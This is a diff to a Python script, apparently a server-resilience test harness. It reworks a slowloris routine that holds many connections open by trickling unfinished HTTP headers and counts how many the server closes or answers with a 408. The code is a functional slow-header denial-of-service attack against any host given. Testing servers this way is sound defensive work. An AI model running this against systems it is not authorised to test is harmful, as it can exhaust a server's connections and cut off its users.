@@ -17,6 +17,7 @@ import argparse
 import asyncio
 import contextlib
 import json
+import resource
 import socket
 import struct
 import sys
@@ -213,46 +214,58 @@ def watch_stdin() -> threading.Event:
 
 
 def slowloris(args) -> None:
-    """Open `connections` sockets, each sending a request's headers one byte at a time, never finishing them."""
-    head = f"GET /healthz HTTP/1.1\r\nHost: {args.host}\r\nUser-Agent: slowloris\r\nX-a: ".encode()
-    socks: list[tuple[socket.socket, int]] = []
-    refused = 0
+    """Open `connections` sockets, each sending a request's headers one byte per `interval`, never finishing them;
+    count the connections the server closes (or answers: a 408)."""
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    want = args.connections + 64
+    if soft != resource.RLIM_INFINITY and soft < want:
+        resource.setrlimit(
+            resource.RLIMIT_NOFILE, (want if hard == resource.RLIM_INFINITY else min(want, hard), hard)
+        )
+    stop = watch_stdin()
+    head = f"GET /healthz HTTP/1.1\r\nHost: {args.host}\r\nUser-Agent: slowloris\r\nX-Padding: ".encode()
+    head += b"x" * 100_000
+    socks: dict[socket.socket, int] = {}  # socket -> bytes sent
+    refused = closed = answered = 0
     deadline = time.monotonic() + args.seconds
     for _ in range(args.connections):
-        if time.monotonic() > deadline:
-            break
         s = socket.socket()
         s.settimeout(2)
         try:
             s.connect((args.host, args.port))
             s.send(head[:1])
             s.setblocking(False)
-            socks.append((s, 1))
+            socks[s] = 1
         except OSError:
             refused += 1
             s.close()
     say(event="ready", open=len(socks), refused=refused)
-    closed_by_server = 0
-    stop = False
-    import select
-
-    while time.monotonic() < deadline and socks and not stop:
-        r, _, _ = select.select([sys.stdin], [], [], args.interval)
-        if r and not sys.stdin.read(1):
-            stop = True
-        alive = []
-        for s, n in socks:
+    while socks and not stop.wait(args.interval) and time.monotonic() < deadline:
+        for s, n in list(socks.items()):
             try:
-                s.send((head + b"x" * 100_000)[n : n + 1])
-                alive.append((s, n + 1))
+                data = s.recv(4096)
             except (BlockingIOError, InterruptedError):
-                alive.append((s, n))
+                data = None
             except OSError:
-                closed_by_server += 1
+                data = b""
+            if data is not None:  # the server closed it, or answered it (and closes it)
+                answered += bool(data)
+                closed += not data
+                del socks[s]
                 s.close()
-        socks = alive
-    say(event="done", open=len(socks), closed_by_server=closed_by_server, refused=refused)
-    for s, _ in socks:
+                continue
+            try:
+                s.send(head[n : n + 1])
+                socks[s] = n + 1
+            except (BlockingIOError, InterruptedError):
+                pass
+            except OSError:
+                closed += 1
+                del socks[s]
+                s.close()
+        say(event="progress", open=len(socks), closed=closed, answered=answered)
+    say(event="done", open=len(socks), closed=closed, answered=answered, refused=refused)
+    for s in socks:
         s.close()
 
 
